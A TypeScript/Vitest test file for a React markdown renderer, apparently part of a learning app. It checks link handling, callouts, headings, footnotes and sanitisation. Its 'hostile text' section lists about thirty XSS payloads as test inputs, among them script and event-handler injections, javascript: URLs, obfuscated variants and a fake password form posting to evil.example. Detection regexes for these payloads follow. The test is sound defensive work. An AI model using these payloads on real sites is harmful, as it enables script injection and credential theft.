import { renderToStaticMarkup } from 'react-dom/server';
import { IntlProvider } from 'react-intl';
import { describe, expect, it } from 'vitest';
import messages from '../../i18n/en.json';
import { type ReadingProps, spokenWords } from './reading.tsx';
import { ReadingBody } from './reading-body.tsx';

const render = (markdown: string, props: Partial<ReadingProps> = {}): string =>
  renderToStaticMarkup(
    <IntlProvider locale="en" messages={messages}>
      <ReadingBody markdown={markdown} {...props} />
    </IntlProvider>,
  );

describe('hostile text', () => {
  it.each([
    '<script>alert(1)</script>',
    'before <script src="https://evil.example/x.js"></script> after',
    '<scr<script>ipt>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<img src=x onerror=alert(1)//',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:alert(1)" onclick="alert(1)">x</a>',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](javascript:alert(1))',
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<base href="https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<x-widget onclick="alert(1)">x</x-widget>',
    '<template><script>alert(1)</script></template>',
    '<!--><script>alert(1)</script>-->',
    '| a |\n|---|\n| <td onmouseover="alert(1)">x |',
    '> [!NOTE]\n> <img src=x onerror=alert(1)>',
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  ])('does no harm: %s', (markdown) => {
    const html = render(markdown);
    expect(html).not.toMatch(/<(script|style|iframe|object|embed|form|base|link|meta|svg onload)/i);
    expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
    expect(html).not.toMatch(/<[^>]*\sstyle\s*=/i);
    expect(html).not.toMatch(/(href|src|action|data)="\s*(javascript|vbscript|data):/i);
    expect(html).not.toContain('<input');
  });

  it.each(['//evil.example', '/\\evil.example', 'https://evil.example'])(
    'opens a link to another site beside the page and says so: %s',
    (address) => {
      const html = render(`<a href="${address}">x</a>`);
      expect(html).toContain('rel="noopener noreferrer"');
      expect(html).toContain(messages['reading.newTab']);
    },
  );

  it.each(['#part', '/units/1', 'other'])('opens a link of our own in its place: %s', (address) => {
    expect(render(`[x](${address})`)).not.toContain('target=');
  });

  it('keeps a text from taking an id of the page', () => {
    const html = render('<div id="root">x</div>\n\n# content');
    expect(html).not.toContain('id="root"');
    expect(html).not.toContain('id="content"');
  });

  it('loads no picture of another site, but links it', () => {
    const html = render('![A chart](https://evil.example/pixel.gif)');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/pixel.gif"');
    expect(html).toContain('A chart');
  });
});

describe('what a unit may hold', () => {
  it('shows placeholders that look like tags as they were written', () => {
    const html = render('Connect to <hostname> as <your-name>, then press <kbd>Enter</kbd>.');
    expect(html).toContain('&lt;hostname&gt; as &lt;your-name&gt;');
    expect(html).toContain('<kbd>Enter</kbd>');
  });

  it.each([
    ['> [!NOTE]\n> Mind the gap.', 'note', 'Note'],
    ['> [!TIP] Mind the gap.', 'tip', 'Tip'],
    ['> [!WARNING]  \n> Mind the gap.', 'warning', 'Warning'],
    ['> [!Important]\n>\n> Mind the gap.', 'important', 'Important'],
  ])('makes a callout of %j', (markdown, kind, word) => {
    const html = render(markdown);
    expect(html).toContain(`data-kind="${kind}"`);
    expect(html).toContain(word);
    expect(html).toContain('Mind the gap.');
    expect(html).not.toContain('[!');
  });

  it('leaves an ordinary quotation a quotation', () => {
    expect(render('> [Not a marker] but words')).toContain('<blockquote dir="auto"');
  });

  it('resolves pictures of its own, and gives a lone one a caption', () => {
    const html = render('![A branch](img/branch.png "Two branches meet")', {
      resolveImage: (src) => `/api/v1/files/${src}`,
    });
    expect(html).toContain('<figure>');
    expect(html).toContain('src="/api/v1/files/img/branch.png"');
    expect(html).toContain('alt="A branch"');
    expect(html).toContain('Two branches meet</figcaption>');
  });

  it('puts the topmost heading of a text below that of the page, in order and with anchors', () => {
    const html = render('## Branches\n\n#### Merge\n\n## Branches\n\n## Größe & Maß');
    expect(html.match(/<h\d/g)).toEqual(['<h2', '<h4', '<h2', '<h2']);
    expect(html.match(/id="[^"]+"/g)?.map((id) => id.replace(/^id="[^-]+-/, ''))).toEqual([
      'branches"',
      'merge"',
      'branches-1"',
      'größe-maß"',
    ]);
  });

  it('links footnotes and headings of the text to each other', () => {
    const html = render('A claim[^1], see [below](#why).\n\n## Why\n\n[^1]: The source.');
    const ids = new Set([...html.matchAll(/ id="([^"]+)"/g)].map((match) => match[1]));
    const links = [...html.matchAll(/ href="#([^"]+)"/g)].map((match) => match[1]);
    expect(links.length).toBeGreaterThanOrEqual(3);
    for (const link of links) expect(ids).toContain(link);
  });

  it('lets each block find its own direction, and keeps code left to right', () => {
    const html = render('שלום עולם\n\nHello\n\n    x = 1');
    expect(html.match(/<p dir="auto"/g)).toHaveLength(2);
    expect(html).toMatch(/<div[^>]*dir="ltr"/);
  });

  it('frames tables, marks tasks, and says where a link leads', () => {
    const html = render('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n<https://example.org>');
    expect(html).toMatch(/<section[^>]*tabindex="0"[^>]*><table>/i);
    expect(html).toContain('text-align:right');
    expect(html).toContain('aria-label="Done"');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it('sets an option in its line', () => {
    const html = render('Use `git switch`', { variant: 'inline' });
    expect(html).not.toContain('<p');
    expect(html).toContain('<code>git switch</code>');
  });
});

describe('spokenWords', () => {
  it('says the words and leaves the code out', () => {
    const stem = 'What does *this* print?\n\n```js\nconsole.log(1)\n```\n\nChoose `one`.';
    expect(spokenWords(stem)).toBe('What does this print? Choose one.');
    expect(spokenWords('```sql\nselect 1')).toBe('');
  });
});
